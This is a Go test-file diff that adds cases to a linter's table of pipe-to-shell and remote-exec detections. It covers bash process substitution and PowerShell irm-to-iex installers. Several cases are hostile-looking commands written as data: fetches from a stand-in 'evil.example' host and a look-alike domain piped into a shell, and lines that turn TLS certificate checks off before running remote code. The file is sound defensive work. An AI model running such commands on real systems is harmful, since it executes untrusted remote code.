@@ -310,6 +310,29 @@ var codeCases = []lintCase{
 	{"x.sh", "pipe-to-shell", "SSL_CERT_FILE=./ca.pem https_proxy=http://203.0.113.9:8080 curl -sSf https://sh.rustup.rs | sh\n", "warning", 1},
 	{"x.sh", "pipe-to-shell", "export CURL_CA_BUNDLE=./ca.pem\ncurl -sSf https://sh.rustup.rs | sh\n", "warning", 2},
 	{"x.sh", "download-exec", "curl -sSf https://sh.rustup.rs > r.sh\ncurl -sSf https://x.example/p >> r.sh\nsh r.sh\n", "warning", 3},
+	// The same by process substitution, and PowerShell's irm or iwr piped
+	// to iex, of a listed installer (its own .ps1) with no parameter but
+	// -UseBasicParsing; -k, http, a look-alike, a variable, a second
+	// command, -SkipCertificateCheck or a text that turns the certificate
+	// check off stays a warning.
+	{"x.sh", "pipe-to-shell", "bash <(curl -fsSL https://sh.rustup.rs) -s -- -y\n", "note", 1},
+	{"x.sh", "pipe-to-shell", "bash <(curl -k https://sh.rustup.rs)\n", "warning", 1},
+	{"x.sh", "pipe-to-shell", "bash <(curl -fsSL http://sh.rustup.rs)\n", "warning", 1},
+	{"x.sh", "pipe-to-shell", "bash <(curl -fsSL https://sh.rustup.rs; curl -s https://evil.example/x)\n", "warning", 1},
+	{"x.sh", "pipe-to-shell", "bash <(curl -fsSL https://sh.rustup.rs | sed s/a/b/)\n", "warning", 1},
+	{"x.sh", "pipe-to-shell", "bash <(SSL_CERT_FILE=./ca.pem curl -fsSL https://sh.rustup.rs)\n", "warning", 1},
+	{"install.ps1", "pipe-to-shell", "irm https://astral.sh/uv/install.ps1 | iex\n", "note", 1},
+	{"install.ps1", "pipe-to-shell", "powershell -ExecutionPolicy ByPass -c \"irm https://astral.sh/uv/install.ps1 | iex\"\n", "note", 1},
+	{"SKILL.md", "pipe-to-shell", "```powershell\nirm https://claude.ai/install.ps1 | iex\n```\n", "note", 2},
+	{"install.ps1", "pipe-to-shell", "Invoke-WebRequest https://get.pnpm.io/install.ps1 -UseBasicParsing | Invoke-Expression\n", "note", 1},
+	{"install.ps1", "pipe-to-shell", "iwr -useb https://get.scoop.sh | iex\n", "warning", 1},
+	{"install.ps1", "pipe-to-shell", "irm https://astral.sh.evil.example/install.ps1 | iex\n", "warning", 1},
+	{"install.ps1", "pipe-to-shell", "irm http://astral.sh/uv/install.ps1 | iex\n", "warning", 1},
+	{"install.ps1", "pipe-to-shell", "irm https://astral.sh/uv/install.ps1$x | iex\n", "warning", 1},
+	{"install.ps1", "pipe-to-shell", "irm https://astral.sh/uv/install.ps1 -SkipCertificateCheck | iex\n", "warning", 1},
+	{"install.ps1", "pipe-to-shell", "irm https://astral.sh/uv/install.ps1 | % { $_ -replace 'a','b' } | iex\n", "warning", 1},
+	{"install.ps1", "pipe-to-shell", "[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}\nirm https://astral.sh/uv/install.ps1 | iex\n", "warning", 2},
+	{"install.ps1", "remote-exec", "iex (irm $u)\n", "warning", 1},
 	{"install.sh", "download-exec", "curl -fsSLo tool https://github.com/o/tool/releases/download/v1.2.0/tool-linux-amd64\nchmod +x tool\n./tool --version\n", "warning", 3},
 	// Python: a download saved, then run as a program or a script
 	{"setup.py", "download-exec", "import os, subprocess, urllib.request\np = '/tmp/agent'\nurllib.request.urlretrieve('https://dl.example/agent', p)\nos.chmod(p, 0o755)\nsubprocess.run([p])\n", "warning", 5},
